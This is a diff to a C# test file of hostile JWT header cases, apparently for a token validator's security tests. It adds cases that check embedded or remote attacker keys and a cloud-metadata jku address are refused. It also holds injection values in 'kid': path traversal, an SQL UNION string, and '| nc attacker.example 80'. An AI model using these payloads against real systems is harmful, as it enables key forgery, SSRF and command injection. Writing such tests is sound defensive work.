@@ -28,10 +28,12 @@ internal static class CryptographyCases
     private static IEnumerable<HostileCase> KeysOfTheAttacker() =>
     [
         Own("a key of the attacker under the name of a trusted one", _ => { }),
-        Own("the attacker's key in \"jwk\"", h => h["jwk"] = new JsonObject { ["kty"] = "RSA", ["e"] = "AQAB", ["n"] = "AQAB" }),
-        Own("the attacker's certificate in \"x5c\"", h => h["x5c"] = new JsonArray(Convert.ToBase64String(Certs.Public(Forge.Attacker).Der.AsSpan()))),
-        Own("the attacker's key set in \"jku\"", h => h["jku"] = "https://attacker.example/keys"),
-        Own("the attacker's certificate at \"x5u\"", h => h["x5u"] = "https://attacker.example/certificate.pem"),
+        .. Brought("the attacker's key in \"jwk\"", h => h["jwk"] = new JsonObject { ["kty"] = "RSA", ["e"] = "AQAB", ["n"] = "AQAB" }),
+        .. Brought("the attacker's certificate in \"x5c\"", h => h["x5c"] = new JsonArray(Convert.ToBase64String(Certs.Public(Forge.Attacker).Der.AsSpan()))),
+        .. Brought("the attacker's key set in \"jku\"", h => h["jku"] = "https://attacker.example/keys"),
+        .. Brought("the attacker's certificate at \"x5u\"", h => h["x5u"] = "https://attacker.example/certificate.pem"),
+        .. Brought("an address inside the house in \"jku\"", h => h["jku"] = "http://169.254.169.254/latest/meta-data"),
+        .. Brought("an empty \"jku\"", h => h["jku"] = ""),
         Own("a path in \"kid\"", h => h["kid"] = "../../../../dev/null"),
         Own("a query in \"kid\"", h => h["kid"] = "x' UNION SELECT 'key' --"),
         Own("a command in \"kid\"", h => h["kid"] = "| nc attacker.example 80"),
@@ -65,6 +67,16 @@ internal static class CryptographyCases
     {
         Twin = () => Forge.Actor(header: header),
     };
+
+    /// <summary>Refused before any key is looked for, whoever signed: with the attacker's key, with the trusted one, inside a user token and
+    /// around one.</summary>
+    private static IEnumerable<HostileCase> Brought(string name, Action<JsonObject> header) =>
+    [
+        new("3.10", name, "header", "PT5013", () => Forge.Actor(header: header, key: Forge.Attacker)),
+        new("3.10", name + ", signed by the trusted key", "header", "PT5013", () => Forge.Actor(header: header)),
+        new("3.10", name + ", inside a user token", "actorToken", "PT5013", () => Forge.User(actor: Forge.Actor(header: header))) { Twin = () => Forge.User() },
+        new("3.10", name + ", of a user token", "header", "PT5013", () => Forge.User(header: header)) { Twin = () => Forge.User() },
+    ];
 
     private static HostileCase Named(string name, string code, Action<JsonObject> header) => new("3.10", name, "signingKey", code, () => Forge.Actor(header: header));
 }
